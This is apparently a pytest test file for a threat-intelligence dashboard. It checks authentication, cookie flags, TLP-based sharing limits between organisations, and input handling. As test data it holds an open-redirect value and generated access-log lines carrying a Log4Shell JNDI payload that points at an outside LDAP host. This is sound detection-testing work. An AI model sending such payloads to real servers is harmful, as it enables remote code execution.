"""The dashboard over HTTP (FastAPI's test client on the real app): login, roles, TLP, safety."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from mamori.share._hub import Hub
from mamori.share._server import create_app
from mamori.share.stix import ShareOptions, report_to_stix
from mamori.share.tlp import Tlp


@pytest.fixture
def hub(demo: Any) -> Any:
    h = Hub.open(demo.hub_url)
    yield h
    h.close()


@pytest.fixture
def client(demo: Any, hub: Hub) -> TestClient:
    return TestClient(create_app(hub, results=demo.results), follow_redirects=False)


def test_pages_need_a_login_and_the_api_says_401(client: TestClient) -> None:
    for path in ("/", "/speed", "/attacks", "/sharing", "/findings"):
        r = client.get(path)
        assert r.status_code == 303 and r.headers["location"].startswith("/login?next=")
    r = client.get("/api/dashboard")
    assert r.status_code == 401 and "Basic" in r.headers["www-authenticate"]


def test_login_form_sets_a_strict_cookie_and_refuses_wrong_tokens(client: TestClient, demo: Any) -> None:
    bad = client.post("/login", data={"org": "demo", "token": "wrong", "next": "/speed"})
    assert bad.status_code == 401 and "do not match" in bad.text
    other = client.post("/login", data={"org": "someone-else", "token": demo.token, "next": "/"})
    assert other.status_code == 401
    ok = client.post("/login", data={"org": "demo", "token": demo.token, "next": "//evil.example/"})
    assert ok.status_code == 303 and ok.headers["location"] == "/"  # never off-site
    cookie = ok.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    page = client.get("/")
    assert page.status_code == 200 and "Open findings now" in page.text
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert client.post("/logout").status_code == 303


def test_basic_and_bearer_work_like_the_apis(client: TestClient, demo: Any) -> None:
    basic = base64.b64encode(f"demo:{demo.token}".encode()).decode()
    assert client.get("/api/dashboard", headers={"Authorization": f"Basic {basic}"}).json()["admin"]
    data = client.get("/api/dashboard", headers={"Authorization": f"Bearer {demo.token}"}).json()
    assert data["posture"]["open"] == sum(data["posture"]["by_decision"].values())


def demo_org() -> str:
    from mamori.demo import DEMO_ORG

    return DEMO_ORG


def test_a_non_admin_sees_only_sharing_and_only_what_tlp_lets_it_read(
    client: TestClient, hub: Hub, demo: Any
) -> None:
    token = hub.add_org("reader-rail", "railways", "reader")
    headers = {"Authorization": f"Bearer {token}"}
    landing = client.get("/", headers=headers)  # a non-admin lands on its sharing page
    assert landing.status_code == 303 and landing.headers["location"] == "/sharing"
    assert client.get("/findings", headers=headers).status_code == 403
    data = client.get("/api/dashboard", headers=headers).json()
    assert data["admin"] is False and "posture" not in data
    # the demo shared its findings AMBER to its sector's collection without --to: for railways'
    # members, so this railways reader sees them; the GREEN cross-sector alerts it sees too
    admin = client.get("/api/dashboard", headers={"Authorization": f"Bearer {demo.token}"}).json()
    assert admin["sharing"]["received"]["railways"]["amber"] > 0
    assert data["sharing"]["received"]["railways"] == admin["sharing"]["received"]["railways"]
    assert data["sharing"]["received"]["cross-sector"] == admin["sharing"]["received"]["cross-sector"]
    # the demo shared its alerts anonymised: no page or API names it to another organisation
    for path in ("/api/dashboard", "/sharing", "/sharing/objects?direction=received&sector=cross-sector"):
        assert f">{demo_org()}<" not in client.get(path, headers=headers).text
        assert f'"{demo_org()}"' not in client.get(path, headers=headers).text
    # another sector's org sees nothing of railways even when shared CLEAR there
    writer = hub.add_org("rail-writer", "railways", "writer")
    org = hub.authenticate(writer)
    assert org is not None
    from mamori.model import Report

    bundle = report_to_stix(Report(), ShareOptions(tlp=Tlp.CLEAR, producer="rail-writer"))
    hub.add_objects(org, hub.resolve_collection("railways"), bundle["objects"])
    finance = hub.add_org("bank", "finance", "writer")
    seen = client.get("/api/dashboard", headers={"Authorization": f"Bearer {finance}"}).json()
    assert "railways" not in seen["sharing"]["received"]
    page = client.get(
        "/sharing/objects?direction=received&sector=railways", headers={"Authorization": f"Bearer {finance}"}
    )
    assert page.status_code == 200 and 'data-count="0"' in page.text


def test_drill_down_pages_and_bad_input(client: TestClient, demo: Any) -> None:
    headers = {"Authorization": f"Bearer {demo.token}"}
    data = client.get("/api/dashboard", headers=headers).json()
    for decision, n in data["posture"]["by_decision"].items():
        page = client.get("/findings", params={"decision": decision}, headers=headers)
        assert f'data-count="{n}"' in page.text
    for key, figure in data["speed"].items():
        page = client.get("/speed/samples", params={"figure": key}, headers=headers)
        assert f'data-count="{figure["samples"]}"' in page.text
    assert client.get("/findings/not-a-finding", headers=headers).status_code == 404
    assert client.get("/attacks/not-an-alert", headers=headers).status_code == 404
    assert client.get("/speed/samples?figure=nope", headers=headers).status_code == 404
    assert client.get("/findings?upto=abc", headers=headers).status_code == 200
    assert client.get("/static/..%2F_views.py").status_code == 404
    assert client.get("/static/dashboard.css").headers["content-type"].startswith("text/css")
    # the TAXII API is still there beside the dashboard
    taxii = client.get("/taxii2/", headers={**headers, "Accept": "application/taxii+json;version=2.1"})
    assert taxii.status_code == 200 and "api_roots" in taxii.json()


def test_attacks_count_every_stored_alert_and_speed_explains_a_first_scan(
    tmp_path: Path, client: TestClient, demo: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Real counts, not a silent page of 1,000 (issue 12): 1,200 real detect alerts."""
    from typer.testing import CliRunner

    from mamori.cli import app
    from mamori.dashboard._views import ALERTS_SHOWN
    from mamori.results import ResultsStore

    speed = client.get("/speed", headers={"Authorization": f"Bearer {demo.token}"}).text
    baseline = ResultsStore(demo.results).speed()[0].baseline
    assert baseline > 0 and 'data-metric="published-to-detected-baseline"' in speed
    assert f"{baseline} findings found by the first scan" in speed

    home = tmp_path / "home"
    log = tmp_path / "access.log"
    log.write_text(
        "".join(
            f"45.155.205.{i % 250} - - [10/Oct/2024:13:{(i // 60) % 60:02d}:{i % 60:02d} +0000] "
            f'"GET /?x=${{jndi:ldap://45.155.205.233/a{i}}} HTTP/1.1" 200 12 "-" "curl/8"\n'
            for i in range(ALERTS_SHOWN + 200)
        ),
        encoding="utf-8",
    )
    monkeypatch.setenv("MAMORI_HOME", str(home))
    result = CliRunner().invoke(app, ["detect", str(log), "--format", "json", "-o", str(tmp_path / "a.json")])
    assert result.exit_code == 1, result.output  # alerts found
    hub = Hub.open(f"sqlite:///{home / 'hub.sqlite'}")
    try:
        token = hub.add_org("operator", "finance", "admin")
        mine = TestClient(create_app(hub, results=home / "results.sqlite"), follow_redirects=False)
        headers = {"Authorization": f"Bearer {token}"}
        data = mine.get("/api/dashboard", headers=headers).json()
        assert data["alerts"]["total"] == ALERTS_SHOWN + 200
        page = mine.get("/attacks", headers=headers).text
        assert f'data-listed="{ALERTS_SHOWN}"' in page and f"of {ALERTS_SHOWN + 200} stored alerts" in page
    finally:
        hub.close()
